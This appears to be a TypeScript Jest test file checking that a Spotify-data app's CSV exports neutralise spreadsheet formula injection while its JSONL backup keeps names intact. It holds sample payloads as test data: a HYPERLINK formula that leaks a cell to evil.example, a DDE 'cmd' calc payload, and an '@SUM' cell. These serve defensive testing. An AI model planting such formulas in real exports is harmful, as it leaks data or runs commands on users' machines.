import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { buildSyntheticCatalog, startSandbox } from '../../src/sandbox';
import { createApiToken, login, startTestApp, type RunningSandbox, type TestApp } from '../helpers/harness';
import { ext, upload } from '../helpers/history';
import { readZip } from '../helpers/zip';

jest.setTimeout(120_000);

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
/** Cells a spreadsheet would run as a formula (OWASP's list). */
const ACTIVE = /^[=+\-@\t\r]/;

const binary = (res: request.Response, cb: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => cb(null, Buffer.concat(chunks)));
};
const rowsOf = (csv: string | Buffer) => parse(csv, { columns: true, skip_empty_lines: true }) as Record<string, string>[];

describe('attack: CSV formula injection through names that come from Spotify or an upload', () => {
  let sandbox: RunningSandbox;
  let artistId: string;
  beforeAll(async () => {
    // A catalog whose names are formulas: every artist name, and one artist's track and album names.
    const catalog = buildSyntheticCatalog();
    for (const a of catalog.artists.values()) a.name = `=${a.name}`;
    artistId = catalog.notable.smallArtistId;
    const tracks = [...catalog.tracks.values()].filter((t) => t.artistIds[0] === artistId);
    tracks[0].name = FORMULA;
    tracks[1].name = '-1';
    tracks[2].name = '+cmd|" /C calc"!A0';
    tracks[3].name = '\tTabbed';
    catalog.albums.get(tracks[0].albumId)!.name = '@SUM(1+1)';
    sandbox = await startSandbox({ port: 0, catalog });
  });
  afterAll(async () => {
    await sandbox.close();
  });

  it('tracks.csv neutralises text cells that start a formula, and keeps negative numbers (loudness) numeric', async () => {
    const t = await startTestApp({ sandbox });
    try {
      await request(t.url).get(`/api/artists/${artistId}`).expect(200);
      const csv = (await request(t.url).get(`/api/artists/${artistId}/tracks.csv`).expect(200)).text;
      const rows = rowsOf(csv);
      const names = rows.map((r) => r.track_name);
      expect(names).toEqual(expect.arrayContaining([`'${FORMULA}`, "'-1", '\'+cmd|" /C calc"!A0', "'\tTabbed"]));
      expect(rows.map((r) => r.album_name)).toContain("'@SUM(1+1)");
      for (const r of rows) {
        for (const col of ['artist_name', 'album_name', 'track_name', 'artists']) expect({ col, cell: r[col] }).toEqual({ col, cell: expect.not.stringMatching(ACTIVE) });
      }
      // Numbers are data: a negative loudness is written as the number itself.
      const loudness = rows.map((r) => r.loudness).filter(Boolean);
      expect(loudness.length).toBeGreaterThan(0);
      for (const l of loudness) expect(l).toMatch(/^-\d+(\.\d+)?$/);
    } finally {
      await t.close();
    }
  });

  it('a backup neutralises history.csv and snapshots.csv, while history.jsonl keeps "=HYPERLINK(...)" and "-1" and restores them exactly', async () => {
    const a = await startTestApp({ sandbox });
    const b = await startTestApp({ sandbox });
    try {
      const agentA = a.agent();
      await login(a, agentA, 'marcus.demo');
      const tokenA = await createApiToken(agentA, 'backup');
      const plays = [ext('2024-03-01T10:00:00Z', FORMULA, '@Evil Artist', 200_000), ext('2024-03-01T11:00:00Z', '-1', 'Plain Artist', 180_000)];
      expect(await upload(a, tokenA, 'Streaming_History_Audio_2024_0.json', JSON.stringify(plays))).toMatchObject({ status: 'done' });
      await request(a.url).get('/api/me/summary').set('Authorization', `Bearer ${tokenA}`).expect(200); // a dashboard snapshot
      const exportZip = async (t: TestApp, token: string) =>
        (await request(t.url).get('/api/me/export').set('Authorization', `Bearer ${token}`).buffer(true).parse(binary).expect(200)).body as Buffer;
      const first = await readZip(await exportZip(a, tokenA));

      const jsonl = first.get('history.jsonl')!.toString().trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
      expect(jsonl.map((p) => p.name)).toEqual([FORMULA, '-1']);
      expect(jsonl.map((p) => p.artist)).toEqual(['@Evil Artist', 'Plain Artist']);

      const history = rowsOf(first.get('history.csv')!);
      expect(history.map((r) => r.name)).toEqual([`'${FORMULA}`, "'-1"]);
      expect(history.map((r) => r.artist)).toEqual(["'@Evil Artist", 'Plain Artist']);
      expect(history.map((r) => r.ms_played)).toEqual(['200000', '180000']);

      const snapshots = rowsOf(first.get('snapshots.csv')!);
      const artistNames = snapshots.filter((r) => r.kind === 'artists').map((r) => r.name);
      expect(artistNames.length).toBeGreaterThan(0);
      for (const name of artistNames) expect(name).toMatch(/^'=/);
      for (const r of snapshots) expect(r.name).not.toMatch(ACTIVE);

      // Restore reads history.jsonl (not the CSV), so the names come back exactly.
      const agentB = b.agent();
      await login(b, agentB, 'marcus.demo');
      const tokenB = await createApiToken(agentB, 'restore');
      expect(await upload(b, tokenB, 'spotify-data-app-backup.zip', await exportZip(a, tokenA))).toMatchObject({ status: 'done', error: null });
      const again = await readZip(await exportZip(b, tokenB));
      for (const [name, data] of first) expect({ name, same: again.get(name)!.equals(data) }).toEqual({ name, same: true });
    } finally {
      await a.close();
      await b.close();
    }
  });
});
